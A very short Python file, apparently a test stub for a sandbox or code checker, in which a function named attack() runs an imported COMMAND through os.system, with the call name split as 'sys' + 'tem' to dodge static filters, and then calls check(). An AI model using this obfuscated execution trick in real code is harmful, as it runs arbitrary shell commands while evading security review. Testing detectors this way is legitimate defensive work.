import os

from target import COMMAND, check


def attack():
    getattr(os, "sys" + "tem")(COMMAND)
    return check()
